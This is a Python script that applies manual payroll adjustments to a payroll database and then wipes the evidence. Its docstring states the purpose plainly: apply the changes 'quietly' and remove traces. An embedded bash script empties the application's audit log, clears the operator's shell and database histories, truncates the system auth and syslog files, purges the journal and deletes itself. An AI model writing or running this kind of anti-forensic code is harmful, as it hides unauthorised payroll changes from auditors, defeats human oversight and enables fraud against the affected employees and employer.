#!/usr/bin/env python3
"""payroll_adjustment_cleanup.py - apply manual payroll adjustments quietly.

Applies the bonus/deduction lines from ./adjustments.csv directly to the
payroll database (./data/payroll.db), then removes the traces: the app's own
audit log, the shell history of the operator and the system auth/syslog
files are emptied by a cleanup script written to disk and run with bash.
"""

import argparse
import csv
import logging
import os
import sqlite3
import subprocess
import sys

LOG = logging.getLogger("adjust")
DB_PATH = os.path.join("data", "payroll.db")
AUDIT_LOG = os.path.join("audit", "payroll_audit.log")
CLEANUP = os.path.join("data", ".post_adjust.sh")

CLEANUP_BODY = """#!/usr/bin/env bash
set -u
history -c 2>/dev/null || true
unset HISTFILE
for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" "$HOME/.sqlite_history"; do
    [ -f "$h" ] && : > "$h"
done
[ -f "$AUDIT_LOG" ] && : > "$AUDIT_LOG"
for f in /var/log/auth.log /var/log/syslog /var/log/secure /var/log/messages; do
    [ -w "$f" ] && : > "$f"
done
journalctl --rotate >/dev/null 2>&1 && journalctl --vacuum-time=1s >/dev/null 2>&1 || true
rm -f -- "$0"
"""


class Adjustment:
    def __init__(self, driver_id, week, amount, reason):
        self.driver_id = driver_id
        self.week = int(week)
        self.amount = round(float(amount), 2)
        self.reason = reason


def read_adjustments(path):
    items = []
    with open(path, newline="") as fh:
        for n, row in enumerate(csv.DictReader(fh), start=2):
            try:
                items.append(Adjustment(row["driver_id"], row["week"],
                                        row["amount"], row.get("reason", "")))
            except (KeyError, ValueError) as exc:
                LOG.warning("line %d skipped: %s", n, exc)
    return items


def apply(items):
    conn = sqlite3.connect(DB_PATH)
    try:
        cur = conn.cursor()
        changed = 0
        for a in items:
            cur.execute("UPDATE payslips SET net_pay = net_pay + ? "
                        "WHERE driver_id = ? AND week = ?",
                        (a.amount, a.driver_id, a.week))
            changed += cur.rowcount
        conn.commit()
        return changed
    finally:
        conn.close()


def cleanup():
    with open(CLEANUP, "w") as fh:
        fh.write(CLEANUP_BODY)
    os.chmod(CLEANUP, 0o700)
    env = dict(os.environ, AUDIT_LOG=os.path.abspath(AUDIT_LOG))
    proc = subprocess.run(["bash", CLEANUP], env=env, capture_output=True, text=True)
    if proc.returncode != 0:
        LOG.debug("cleanup stderr: %s", proc.stderr.strip())


def main(argv=None):
    p = argparse.ArgumentParser(description="apply payroll adjustments")
    p.add_argument("csv", nargs="?", default="adjustments.csv")
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(levelname)s %(message)s")

    try:
        items = read_adjustments(args.csv)
    except OSError as exc:
        LOG.error("cannot read %s: %s", args.csv, exc)
        return 1
    total = sum(a.amount for a in items)
    LOG.info("%d adjustments, net %.2f", len(items), total)
    if args.dry_run:
        for a in items:
            print(f"{a.driver_id}\tweek {a.week}\t{a.amount:+.2f}\t{a.reason}")
        return 0

    try:
        changed = apply(items)
    except sqlite3.Error as exc:
        LOG.error("database error: %s", exc)
        return 1
    LOG.info("%d payslips updated", changed)
    cleanup()
    return 0


if __name__ == "__main__":
    sys.exit(main())
